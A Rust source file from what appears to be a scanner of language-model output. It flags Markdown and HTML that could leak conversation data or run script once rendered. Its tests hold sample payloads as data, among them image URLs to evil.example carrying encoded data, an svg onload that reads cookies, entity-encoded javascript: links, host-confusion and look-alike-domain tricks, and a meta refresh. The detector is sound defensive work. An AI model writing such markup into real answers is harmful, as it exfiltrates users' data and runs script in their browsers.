//! Links, images and HTML in model output, read the way the client that renders the answer
//! reads them: Markdown with a CommonMark parser (`pulldown-cmark`, so reference-style images
//! and entity-encoded destinations resolve as in a renderer), HTML with a browser-grade
//! tokenizer (`html5ever`, so `<svg/onload=...>`, entity-encoded `jav&#x61;script:` and
//! `srcset` read as a browser reads them) and URLs the WHATWG way (`url`, so
//! `https://evil.example\@acme.com/` is evil.example, protocol-relative `//evil.example/x`
//! is foreign and IDN look-alikes are not the allowlisted host).
//!
//! What counts:
//! * an image (Markdown, or any HTML element that fetches without a click: `img` `src` and
//!   `srcset`, `input type=image`, `video` `poster`, `source`, `link`, `background`, CSS
//!   `url()`) pointing at a host not on the allowlist: `external_image`, scored higher when
//!   the URL carries data (long query values, path segments or sub-domain labels);
//! * a link to such a host that carries data: `data_in_link`;
//! * script, event handlers, `javascript:`/`vbscript:` URLs, `data:` HTML or SVG, frames,
//!   meta refresh, form actions: `unsafe_html`.

use std::cell::RefCell;
use std::sync::LazyLock;

use html5ever::tendril::StrTendril;
use html5ever::tokenizer::{BufferQueue, Tag, TagKind, Token, TokenSink, TokenSinkResult, Tokenizer};
use pulldown_cmark::{Event, Options, Parser};
use regex::Regex;
use url::Url;

use crate::{Detector, Finding, OutputContext};

/// What relative URLs resolve against: the page the answer is shown on, which is never a
/// foreign host.
#[allow(clippy::expect_used, reason = "a constant URL, checked by the tests")]
static BASE: LazyLock<Url> = LazyLock::new(|| Url::parse("https://rampart-app.invalid/").expect("base URL parses"));

/// Bare URLs in prose, which renderers turn into links.
#[allow(clippy::expect_used, reason = "a constant pattern, checked by the tests")]
static BARE: LazyLock<Regex> =
    LazyLock::new(|| Regex::new(r#"(?i)(?-u:\b)(?:https?:)?//[^\s)"'<>\]]+"#).expect("bare URL pattern compiles"));

/// Attributes whose value is a URL the element fetches by itself (no click needed).
const FETCHING: &[(&str, &str)] = &[
    ("img", "src"),
    ("img", "lowsrc"),
    ("img", "dynsrc"),
    ("image", "href"),
    ("input", "src"),
    ("video", "poster"),
    ("video", "src"),
    ("audio", "src"),
    ("source", "src"),
    ("track", "src"),
    ("link", "href"),
    ("script", "src"),
    ("iframe", "src"),
    ("embed", "src"),
    ("object", "data"),
    ("body", "background"),
    ("table", "background"),
    ("td", "background"),
];

/// Attributes that hold a URL some other way (navigation, submission, pings).
const URL_ATTRIBUTES: &[&str] = &[
    "href",
    "src",
    "action",
    "formaction",
    "poster",
    "background",
    "data",
    "xlink:href",
    "ping",
    "cite",
    "longdesc",
    "codebase",
    "lowsrc",
    "dynsrc",
    "manifest",
    "icon",
];

/// Elements that run or embed other documents.
const FRAMES: &[&str] = &["iframe", "frame", "frameset", "object", "embed", "applet", "portal"];

/// Appends the markup findings in `text`.
pub(crate) fn scan(text: &str, ctx: &OutputContext, out: &mut Vec<Finding>) {
    let b = text.as_bytes();
    if memchr::memchr3(b'[', b'<', b'/', b).is_none() && memchr::memchr(b':', b).is_none() {
        return;
    }
    let mut images: Vec<(usize, usize)> = Vec::new();
    markdown(text, ctx, out, &mut images);
    bare_links(text, ctx, out, &images);
    if memchr::memchr(b'<', b).is_some() {
        html(text, ctx, out);
    }
}

fn markdown(text: &str, ctx: &OutputContext, out: &mut Vec<Finding>, covered: &mut Vec<(usize, usize)>) {
    if memchr::memchr(b'[', text.as_bytes()).is_none() && !text.contains("<http") {
        return;
    }
    let parser = Parser::new_ext(text, Options::empty()).into_offset_iter();
    for (event, range) in parser {
        let (image, dest) = match &event {
            Event::Start(pulldown_cmark::Tag::Image { dest_url, .. }) => (true, dest_url),
            Event::Start(pulldown_cmark::Tag::Link { dest_url, .. }) => (false, dest_url),
            _ => continue,
        };
        covered.push((range.start, range.end));
        judge_url(dest, image, range.start, range.end, ctx, out);
        // A renderer that does not apply CommonMark's backslash escapes in destinations
        // reads `evil.example\@acme.com` as evil.example: the raw form is judged too.
        let source = text.get(range.clone()).unwrap_or("");
        if source.contains('\\') {
            if let Some(raw) = source.rsplit_once("](").and_then(|(_, r)| r.strip_suffix(')')) {
                let raw = raw.split_whitespace().next().unwrap_or(raw).trim_matches(['<', '>']);
                judge_url(raw, image, range.start, range.end, ctx, out);
            }
        }
    }
}

/// URLs in running text outside Markdown links and images.
fn bare_links(text: &str, ctx: &OutputContext, out: &mut Vec<Finding>, covered: &[(usize, usize)]) {
    if !text.contains("//") {
        return;
    }
    for m in BARE.find_iter(text) {
        if covered.iter().any(|&(s, e)| s <= m.start() && m.start() < e) {
            continue;
        }
        // Only absolute URLs are links in prose; `//x` alone is a comment or a path.
        if m.as_str().starts_with("//") {
            continue;
        }
        judge_url(m.as_str(), false, m.start(), m.end(), ctx, out);
    }
}

/// Reports a URL found at `start..end`: a fetching reference (`image`) to a foreign host, a
/// data-carrying link to one, or a script URL.
fn judge_url(raw: &str, image: bool, start: usize, end: usize, ctx: &OutputContext, out: &mut Vec<Finding>) {
    // Browsers strip leading and trailing spaces and remove tabs and newlines anywhere.
    let cleaned: String = raw
        .trim()
        .chars()
        .filter(|c| !matches!(c, '\t' | '\n' | '\r'))
        .collect();
    let lower = cleaned.to_ascii_lowercase();
    if lower.starts_with("javascript:") || lower.starts_with("vbscript:") {
        out.push(Finding::new(Detector::UnsafeHtml, "javascript_url", 0.9, start, end));
        return;
    }
    if lower.starts_with("data:") {
        let media = lower.trim_start_matches("data:");
        if media.starts_with("text/html") || media.starts_with("image/svg") || media.starts_with("application/") {
            out.push(Finding::new(Detector::UnsafeHtml, "data_html_url", 0.9, start, end));
        }
        return;
    }
    let Ok(url) = BASE.join(&cleaned) else { return };
    if !matches!(url.scheme(), "http" | "https" | "ftp" | "ws" | "wss") {
        return;
    }
    let Some(host) = url.host_str() else { return };
    if host == "rampart-app.invalid" || ctx.host_allowed(host) {
        return;
    }
    let data = carries_data(&url, ctx);
    if image {
        let score = if data { 0.95 } else { 0.85 };
        out.push(Finding::new(
            Detector::Exfiltration,
            "external_image",
            score,
            start,
            end,
        ));
    } else if data {
        out.push(Finding::new(Detector::Exfiltration, "data_in_link", 0.8, start, end));
    }
}

/// A URL long enough in some part to smuggle conversation data: a query value, a path
/// segment, a fragment, or a sub-domain label.
fn carries_data(url: &Url, ctx: &OutputContext) -> bool {
    let longest_value = url.query_pairs().map(|(k, v)| k.len().max(v.len())).max().unwrap_or(0);
    let longest_segment = url
        .path_segments()
        .map(|s| s.map(str::len).max().unwrap_or(0))
        .unwrap_or(0);
    let query = url.query().map_or(0, str::len);
    let fragment = url.fragment().map_or(0, str::len);
    let host = url.host_str().unwrap_or("");
    let labels: Vec<&str> = host.split('.').collect();
    let longest_label = labels.iter().map(|l| l.len()).max().unwrap_or(0);
    let placeholder = url.as_str().contains("%3C") && url.as_str().contains("%3E")
        || ctx.canary.as_deref().is_some_and(|c| url.as_str().contains(c));
    longest_value >= 16
        || longest_segment >= 48
        || query >= 64
        || fragment >= 64
        || longest_label >= 24
        || labels.len() > 6
        || placeholder
}

/// Tags seen by the HTML tokenizer, in order.
struct Tags(RefCell<Vec<Tag>>);

impl TokenSink for Tags {
    type Handle = ();

    fn process_token(&self, token: Token, _line: u64) -> TokenSinkResult<()> {
        if let Token::TagToken(tag) = token {
            if tag.kind == TagKind::StartTag {
                self.0.borrow_mut().push(tag);
            }
        }
        TokenSinkResult::Continue
    }
}

fn html(text: &str, ctx: &OutputContext, out: &mut Vec<Finding>) {
    let queue = BufferQueue::default();
    queue.push_back(StrTendril::from_slice(text));
    let tokenizer = Tokenizer::new(Tags(RefCell::new(Vec::new())), Default::default());
    let _ = tokenizer.feed(&queue);
    tokenizer.end();
    let tags = tokenizer.sink.0.take();
    let mut cursor = 0;
    for tag in tags {
        let name: &str = &tag.name;
        let (start, end) = locate(text, name, &mut cursor);
        let attr = |n: &str| {
            tag.attrs
                .iter()
                .find(|a| &*a.name.local == n)
                .map(|a| a.value.to_string())
        };
        if name == "script" {
            out.push(Finding::new(Detector::UnsafeHtml, "script_tag", 0.9, start, end));
        }
        if FRAMES.contains(&name) {
            out.push(Finding::new(Detector::UnsafeHtml, "embedded_frame", 0.9, start, end));
        }
        if name == "meta" && attr("http-equiv").is_some_and(|v| v.trim().eq_ignore_ascii_case("refresh")) {
            out.push(Finding::new(Detector::UnsafeHtml, "meta_refresh", 0.9, start, end));
        }
        if (name == "form" && attr("action").is_some()) || attr("formaction").is_some() {
            out.push(Finding::new(Detector::UnsafeHtml, "form_action", 0.9, start, end));
        }
        for a in &tag.attrs {
            let an: &str = &a.name.local;
            let value: &str = &a.value;
            if an.len() > 2 && an.starts_with("on") {
                out.push(Finding::new(Detector::UnsafeHtml, "event_handler", 0.9, start, end));
            }
            let fetches = FETCHING.iter().any(|&(t, at)| t == name && at == an)
                || (name == "input" && an == "src")
                || (an == "background");
            if an == "srcset" || an == "imagesrcset" {
                for candidate in value.split(',') {
                    let url = candidate.split_whitespace().next().unwrap_or("");
                    judge_url(url, true, start, end, ctx, out);
                }
            } else if an == "style" {
                for url in css_urls(value) {
                    judge_url(&url, true, start, end, ctx, out);
                }
            } else if fetches {
                judge_url(value, true, start, end, ctx, out);
            } else if URL_ATTRIBUTES.contains(&an) || an.ends_with(":href") {
                judge_url(value, false, start, end, ctx, out);
            }
        }
    }
}

/// The `url(...)` references in a CSS value.
fn css_urls(css: &str) -> Vec<String> {
    let lower = css.to_ascii_lowercase();
    let mut out = Vec::new();
    let mut at = 0;
    while let Some(i) = lower.get(at..).and_then(|l| l.find("url(")) {
        let from = at + i + 4;
        let Some(len) = css.get(from..).and_then(|r| r.find(')')) else {
            break;
        };
        let inner = css.get(from..from + len).unwrap_or("").trim().trim_matches(['"', '\'']);
        out.push(inner.to_owned());
        at = from + len;
    }
    out
}

/// The byte span of the next start tag named `name` at or after `cursor`, from its `<` to
/// the `>` that closes it outside quotes (the whole text's end if none does).
fn locate(text: &str, name: &str, cursor: &mut usize) -> (usize, usize) {
    let b = text.as_bytes();
    let n = name.as_bytes();
    let mut i = *cursor;
    let start = loop {
        let Some(off) = b.get(i..).and_then(|r| memchr::memchr(b'<', r)) else {
            return ((*cursor).min(text.len()), text.len());
        };
        let at = i + off;
        let after = b.get(at + 1..at + 1 + n.len());
        if after.is_some_and(|a| a.eq_ignore_ascii_case(n)) {
            break at;
        }
        i = at + 1;
    };
    let mut quote: Option<u8> = None;
    let mut end = b.len();
    for (k, &c) in b.iter().enumerate().skip(start + 1) {
        match (quote, c) {
            (None, b'"' | b'\'') => quote = Some(c),
            (Some(q), c) if c == q => quote = None,
            (None, b'>') => {
                end = k + 1;
                break;
            }
            _ => {}
        }
    }
    // `<` and `>` are ASCII, so both ends are character boundaries.
    *cursor = end;
    (start, end)
}

#[cfg(test)]
mod tests {
    use super::*;

    fn kinds(text: &str, allowed: &[&str]) -> Vec<String> {
        let ctx = OutputContext::new(None, None, allowed.iter().map(|s| s.to_string()).collect());
        let mut out = Vec::new();
        scan(text, &ctx, &mut out);
        out.iter().map(|f| f.kind.to_string()).collect()
    }

    /// Issue 13, classes 11 and 12: each way of writing a fetch, a data-carrying link or
    /// script that the regular expressions missed.
    #[test]
    fn renderer_tricks_are_read_as_a_renderer_reads_them() {
        let acme = &["acme.com"];
        for (text, kind) in [
            (
                "![c][1]\n\n[1]: https://evil.example/p.png?d=c2VjcmV0IGRhdGEgaGVyZQ",
                "external_image",
            ),
            ("![x](//evil.example/p.png?d=c2VjcmV0IGRhdGEgaGVyZQ)", "external_image"),
            ("<img src=\"//evil.example/p.png?d=secret\">", "external_image"),
            ("![a [b] c](https://evil.example/x.png)", "external_image"),
            (
                "<img srcset=\"https://cdn.acme.com/a.png 1x, https://evil.example/b.png 2x\">",
                "external_image",
            ),
            ("![x](https://evil.example\\@acme.com/p.png)", "external_image"),
            ("<img src=\"https://evil.example\\@acme.com/p.png\">", "external_image"),
            (
                "[ok](https://a1b2c3d4e5f6a7b8c9d0e1f2a3b4c5d6.evil.example/)",
                "data_in_link",
            ),
            ("![x](https://аcme.com/p.png)", "external_image"),
            (
                "<div style=\"background:url(https://evil.example/t.png)\">",
                "external_image",
            ),
            ("<svg/onload=alert(document.cookie)>", "event_handler"),
            ("<a href=\"jav&#x61;script:alert(1)\">x</a>", "javascript_url"),
            ("[x](jav&#x61;script:alert(1))", "javascript_url"),
            ("<a href=\"java\tscript:alert(1)\">x</a>", "javascript_url"),
            ("<ScRiPt>alert(1)</script>", "script_tag"),
            ("<iframe src=\"https://acme.com\"></iframe>", "embedded_frame"),
            (
                "<meta http-equiv=\"refresh\" content=\"0;url=https://evil.example\">",
                "meta_refresh",
            ),
            (
                "<button formaction=\"https://evil.example/c\">go</button>",
                "form_action",
            ),
        ] {
            let found = kinds(text, acme);
            assert!(found.iter().any(|k| k == kind), "{text:?}: {found:?}");
        }
    }

    #[test]
    fn ordinary_markup_passes() {
        let acme = &["acme.com"];
        for text in [
            "![logo](https://cdn.acme.com/logo.png)",
            "See [the docs](https://docs.rs/regex) and https://example.com/about.",
            "![local](/static/a.png) <img src=\"images/b.png\" alt=\"b\">",
            "Use the `onclick` attribute sparingly; a: b",
            "<b>bold</b> and <a href=\"https://example.com/x\">a link</a>",
            "Compare 3 < 4 and 5 > 2 // not a URL",
        ] {
            assert!(kinds(text, acme).is_empty(), "{text:?}: {:?}", kinds(text, acme));
        }
    }

    #[test]
    fn spans_cover_the_whole_construct() {
        let ctx = OutputContext::new(None, None, vec![]);
        let text = "before <img alt=\"a>b\" src=\"https://evil.example/x\"> after";
        let mut out = Vec::new();
        scan(text, &ctx, &mut out);
        let f = out.iter().find(|f| f.kind == "external_image").unwrap();
        assert_eq!(
            &text[f.start..f.end],
            "<img alt=\"a>b\" src=\"https://evil.example/x\">"
        );
    }
}
